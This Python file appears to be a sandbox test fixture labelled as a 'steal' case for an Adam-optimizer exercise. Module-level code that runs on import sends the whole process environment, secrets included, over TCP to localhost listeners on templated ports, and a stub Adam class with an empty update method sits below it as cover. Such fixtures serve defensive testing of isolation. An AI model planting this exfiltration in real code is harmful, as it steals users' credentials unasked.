# expect: wrong error timeout
# family: steal
# exercise: adam
# Sends what it knows to a listener over TCP, IPv4 and IPv6.
import os
import socket

RESULTS = []
if True:
    for family, address in ((socket.AF_INET, ("127.0.0.1", int("@TCP4@"))), (socket.AF_INET6, ("::1", int("@TCP6@")))):
        try:
            with socket.socket(family, socket.SOCK_STREAM) as line:
                line.settimeout(0.5)
                line.connect(address)
                line.sendall(repr(dict(os.environ)).encode())
                RESULTS.append("sent")
        except OSError as error:
            RESULTS.append(str(error))


class Adam:
    def __init__(self, lr=0.001, beta1=0.9, beta2=0.999, eps=1e-8):
        self.lr, self.beta1, self.beta2, self.eps = lr, beta1, beta2, eps

    def update(self, params, grads):
        pass
